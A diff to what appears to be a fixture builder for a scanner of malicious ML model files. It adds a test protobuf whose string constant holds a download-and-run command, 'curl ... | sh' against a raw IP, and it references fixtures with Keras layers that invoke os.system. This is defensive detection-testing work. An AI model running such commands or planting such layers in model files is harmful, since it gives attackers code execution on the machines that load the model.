@@ -691,6 +691,15 @@ def build() -> list[Fx]:
                            node_finding("MA431", data, "$.node['graph_def'].attr['value'].s[0].node", inner_read,
                                         severity="critical", nested=True)]))
 
+    stage2 = const_string("help_text", "curl -s http://203.0.113.7/stage2.sh | sh")
+    data = frozen_conv(stage2)
+    key = "$.node['help_text'].attr['value'].s[0]"
+    fixtures.append(Fx("malicious/stage2_string_const.pb", "malicious", "a string constant that downloads and "
+                       "runs a script (the shared string checks)", data, findings=[
+                           finding("MA011", key, offset_of(data, stage2), details={"indicator": "shell-pipe"}),
+                           finding("MA011", key, offset_of(data, stage2), details={"indicator": "raw-ip-url"}),
+                       ]))
+
     whole = tf1_model()
     fixtures.append(Fx("malicious/truncated/saved_model.pb", "malicious", "a saved_model.pb cut short: it claims "
                        "the format and does not decode", whole[: len(whole) * 2 // 3], sm,
@@ -701,8 +710,8 @@ def build() -> list[Fx]:
                           ("layer-2", {"class_name": "Activation", "config": {"name": "act", "activation": shell}}))
     fixtures.append(Fx("malicious/keras_lambda/keras_metadata.pb", "malicious", "keras_metadata.pb with a Lambda "
                        "layer and an activation naming os.system", data, "tensorflow-keras-metadata", [
-                           finding("MA436", "$.nodes[0].metadata['config']['layers'][1].config.function"),
-                           finding("MA436", "$.nodes[2].metadata.config.function"),
+                           finding("MA436", "$.nodes[0].metadata['config']['layers'][1]['config']['function']"),
+                           finding("MA436", "$.nodes[2].metadata['config']['function']"),
                            finding("MA437", "$.nodes[0].metadata['config']['layers'][2]['config']['activation']",
                                    severity="critical", details={"module": "os", "name": "system"}),
                            finding("MA437", "$.nodes[3].metadata['config']['activation']", severity="critical"),
